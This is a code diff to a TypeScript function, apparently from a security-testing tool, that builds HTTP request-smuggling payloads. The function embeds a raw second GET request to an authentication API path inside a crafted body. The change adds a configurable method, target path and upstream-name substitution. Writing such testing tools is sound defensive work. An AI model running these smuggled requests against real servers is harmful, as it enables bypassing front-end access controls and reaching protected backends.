@@ -8,7 +8,11 @@ export function smuggled(
   request: WireRequest,
   form: SmugglingForm,
   endpoint: Endpoint,
-  { mark, pathPrefix = '' }: { readonly mark: string; readonly pathPrefix?: string },
+  {
+    mark,
+    upstreamName,
+    pathPrefix = '',
+  }: { readonly mark: string; readonly upstreamName: string; readonly pathPrefix?: string },
 ): WireRequest {
   const inner = `GET ${pathPrefix}/apis/authn.example/v1/namespaces/${mark}/things HTTP/1.1\r\nHost: ${authorityOf(endpoint)}\r\nX-Request-Id: ${mark}\r\n\r\n`;
   const body = form.body.replaceAll('{chunk}', Buffer.byteLength(inner).toString(16)).replaceAll('{request}', inner);
@@ -25,6 +29,11 @@ export function smuggled(
       body: body === '' ? undefined : body,
     };
   const headers: WireRequest['headers'] = [['Host', authorityOf(endpoint)], ...request.headers, ...lines];
+  const method = form.method ?? 'POST';
+  const target = (form.path ?? '{path}')
+    .replaceAll('{path}', request.path)
+    .replaceAll('{authority}', authorityOf(endpoint))
+    .replaceAll('{upstream-name}', upstreamName);
   const head = headers.map(([name, value]) => `${name}: ${value}\r\n`).join('');
-  return { ...request, method: 'POST', asWritten: `POST ${request.path} HTTP/1.1\r\n${head}\r\n${body}` };
+  return { ...request, method, asWritten: `${method} ${target} HTTP/1.1\r\n${head}\r\n${body}` };
 }
